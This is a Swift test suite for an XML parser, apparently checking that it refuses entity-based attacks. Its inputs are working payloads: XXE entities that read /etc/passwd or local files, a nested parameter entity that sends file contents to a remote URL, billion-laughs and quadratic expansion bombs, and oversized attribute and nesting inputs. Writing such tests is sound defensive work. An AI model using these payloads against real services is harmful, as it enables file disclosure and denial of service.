import Earshot
import Foundation
import Testing

@testable import EarshotFormats

/// Counts what it is told and keeps the beginning of the text: what a bomb costs is what it makes a handler do.
private final class Meter: XMLHandling {
    /// The bytes of names, attributes and text that were told.
    private(set) var told = 0
    private(set) var elements = 0
    private(set) var text: [UInt8] = []

    func code(for name: XMLName) -> Int {
        told += name.local.count
        return 0
    }

    func start(_ code: Int, _ element: XMLElement) {
        elements += 1
        for index in 0..<element.attributes.count { told += element.attributes[index].value.count }
    }

    func text(_ bytes: Bytes) {
        told += bytes.count
        if text.count < 4096 { text += bytes.array }
    }

    func end() {}
}

/// The documents that XML parsers are attacked with, by the names that `Security` in the documentation lists.
///
/// No clock: work is bounded by what a handler is told, which for a document that is refused is nothing.
@Suite struct XMLBombTests {
    /// What became of a document: what a handler was told, or why it is refused.
    private func outcome(_ bytes: [UInt8]) -> Result<XML.Outcome<Meter>, MalformedDocument> {
        Result { () throws(MalformedDocument) in try XML.read(bytes) { Meter() } }
    }

    private func outcome(_ text: String) -> Result<XML.Outcome<Meter>, MalformedDocument> { outcome(Array(text.utf8)) }

    /// Expects that a document is refused as one that declares entities.
    private func expectRefused(_ text: String) {
        guard case .failure(let reason) = outcome(text) else {
            Issue.record("was read: \(text.prefix(120))")
            return
        }
        #expect(reason.reason.contains("declares entities"))
    }

    @Test func `xxe_file: an external entity of a file is not read`() throws {
        let secret = FileManager.default.temporaryDirectory.appendingPathComponent("earshot-\(UUID().uuidString)")
        try Data("open sesame".utf8).write(to: secret)
        defer { try? FileManager.default.removeItem(at: secret) }
        for address in ["file://\(secret.path)", secret.path, "file:///etc/passwd", "http://127.0.0.1:1/x"] {
            expectRefused("<!DOCTYPE a [<!ENTITY x SYSTEM '\(address)'>]><a>&x;</a>")
            expectRefused("<!DOCTYPE a [<!ENTITY x PUBLIC 'p' '\(address)'>]><a b='&x;'/>")
            // Not well formed either: recovering must not bring it back.
            expectRefused("<!DOCTYPE a [<!ENTITY x SYSTEM '\(address)'>]><a>&x;<b></a>")
        }
        // An entity that is no text is declared to no purpose: nothing can ask for it.
        let unread = outcome("<!DOCTYPE a [<!ENTITY x SYSTEM '\(secret.path)' NDATA gif>]><a b='x'>&x;</a>")
        if case .success(let read) = unread {
            #expect(!String(decoding: read.handler.text, as: UTF8.self).contains("sesame"))
        }
    }

    @Test func `xxe_param: a parameter entity is not read and declares nothing`() {
        expectRefused("<!DOCTYPE a [<!ENTITY % x SYSTEM 'file:///etc/passwd'> %x;]><a/>")
        expectRefused("<!DOCTYPE a [<!ENTITY % x '<!ENTITY y \"z\">'> %x;]><a>&y;</a>")
        let nested =
            "<!ENTITY % c SYSTEM 'file:///etc/passwd'><!ENTITY % e \"<!ENTITY &#37; s SYSTEM 'http://x/%c;'>\">"
        expectRefused("<!DOCTYPE a [\(nested) %e; %s;]><a/>")
    }

    @Test func `xxe_external_dtd: an external subset is never fetched`() throws {
        let subset = FileManager.default.temporaryDirectory.appendingPathComponent("earshot-\(UUID().uuidString).dtd")
        try Data("<!ENTITY x 'open sesame'><!ATTLIST a b CDATA 'open sesame'>".utf8).write(to: subset)
        defer { try? FileManager.default.removeItem(at: subset) }
        for address in [subset.path, "file://\(subset.path)", "http://127.0.0.1:1/a.dtd"] {
            let read = try outcome("<!DOCTYPE a SYSTEM '\(address)'><a>x&x;y</a>").get()
            #expect(!String(decoding: read.handler.text, as: UTF8.self).contains("sesame"))
            #expect(read.handler.told <= 20)
        }
    }

    @Test func `laughs_text: entities within entities are refused`() {
        var declared = "<!ENTITY l0 'ha'>"
        for level in 1..<12 {
            let parts = String(repeating: "&l\(level - 1);", count: 10)
            declared += "<!ENTITY l\(level) '\(parts)'>"
        }
        expectRefused("<!DOCTYPE a [\(declared)]><a>&l11;</a>")
    }

    @Test func `laughs_attr: nor in an attribute`() {
        var declared = "<!ENTITY l0 'ha'>"
        for level in 1..<12 { declared += "<!ENTITY l\(level) '&l\(level - 1);&l\(level - 1);&l\(level - 1);'>" }
        expectRefused("<!DOCTYPE a [\(declared)]><a b='&l11;'/>")
        expectRefused("<!DOCTYPE a [\(declared)<!ATTLIST a b CDATA '&l11;'>]><a/>")
    }

    @Test func `quadratic: one long entity, referenced often, is refused`() {
        let long = String(repeating: "x", count: 100_000)
        expectRefused("<!DOCTYPE a [<!ENTITY x '\(long)'>]><a>\(String(repeating: "&x;", count: 20_000))</a>")
    }

    @Test func `depth_300: what lies deeper than 256 is cut`() throws {
        let deep = String(repeating: "<a>", count: 300) + "x" + String(repeating: "</a>", count: 300)
        let read = try outcome(deep).get()
        #expect(read.isRecovered && read.handler.elements <= 257)
        let deeper = try outcome(String(repeating: "<a b='c'>", count: 100_000)).get()
        #expect(deeper.handler.elements <= 257)
    }

    @Test func `attrs_40k: a tag of forty thousand attributes is refused before libxml2 compares them`() {
        let many = (0..<40_000).map { "a\($0)='x'" }.joined(separator: " ")
        let spaces = (0..<20_000).map { "xmlns:n\($0)='u'" }.joined(separator: " ")
        for text in ["<a \(many)/>", "<a \(spaces)/>", "<a><b \(many)>x</b>", "<a x='\"<b \(many)>'/>"] {
            guard case .failure(let reason) = outcome(text) else {
                Issue.record("was read")
                continue
            }
            #expect(reason.reason.contains("256 attributes"))
        }
    }

    @Test func `utf16_bom: a bomb is one in any charset`() {
        let bomb = "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>"
        for encoding in [String.Encoding.utf16, .utf16BigEndian, .utf16LittleEndian, .utf32] {
            for mark in ["", "\u{FEFF}"] {
                let bytes = Array((mark + bomb).data(using: encoding) ?? Data())
                #expect(throws: MalformedDocument.self) { try outcome(bytes).get() }
            }
        }
        // As many attributes in a wide charset are as many attributes.
        let many = (0..<1000).map { "a\($0)='x'" }.joined(separator: " ")
        let wide = Array("\u{FEFF}<a \(many)/>".data(using: .utf16LittleEndian) ?? Data())
        #expect(throws: MalformedDocument.self) { try outcome(wide).get() }
    }

    @Test func `nul_bytes: NUL neither ends a document early nor hides what follows`() throws {
        let read = try outcome("<a>x\u{0}y</a>").get()
        #expect(read.handler.text == Array("xy".utf8))
        expectRefused("<!DOC\u{0}TYPE a [<!ENTITY x 'y'>]><!DOCTYPE a [<!ENTITY x 'y'>]><a>&x;</a>")
        let many = (0..<400).map { "a\($0)\u{0}='x'" }.joined(separator: " ")
        #expect(throws: MalformedDocument.self) { try outcome("<a \(many)/>").get() }
        #expect(throws: MalformedDocument.self) { try outcome([UInt8](repeating: 0, count: 100_000)).get() }
    }

    @Test func `rss091_doctype: the type of RSS 0.91 is read and not fetched`() throws {
        let type = "<!DOCTYPE rss PUBLIC \"-//Netscape Communications//DTD RSS 0.91//EN\" "
        let read = try outcome("<?xml version='1.0'?>\(type)\"http://127.0.0.1:1/rss-0.91.dtd\"><rss>x</rss>").get()
        #expect(read.handler.text == Array("x".utf8))
        #expect(!read.isRecovered)
    }

    @Test func `nbsp_undeclared: names of HTML are known, others stay as they are written`() throws {
        let read = try outcome("<a>x&nbsp;y&eacute;</a>").get()
        #expect(String(decoding: read.handler.text, as: UTF8.self) == "x\u{A0}yé")
        let unknown = try outcome("<a>x&sesame;y</a>").get()
        #expect(unknown.handler.told <= 24)
    }

    @Test func `text without end, comments and CDATA without end are bounded by the document`() throws {
        for open in ["<a>", "<a><!--", "<a><![CDATA[", "<a><?x ", "<a b='"] {
            let bytes = Array((open + String(repeating: "x]]]---??", count: 200_000)).utf8)
            guard case .success(let read) = outcome(bytes) else { continue }
            #expect(read.handler.told <= bytes.count + 16)
        }
    }

    @Test func `a document above the largest is refused without a look`() {
        let bytes = [UInt8](repeating: UInt8(ascii: " "), count: Document.sizeLimit + 1)
        guard case .failure(let reason) = outcome(bytes) else {
            Issue.record("was read")
            return
        }
        #expect(reason.reason.hasPrefix("larger than"))
    }
}
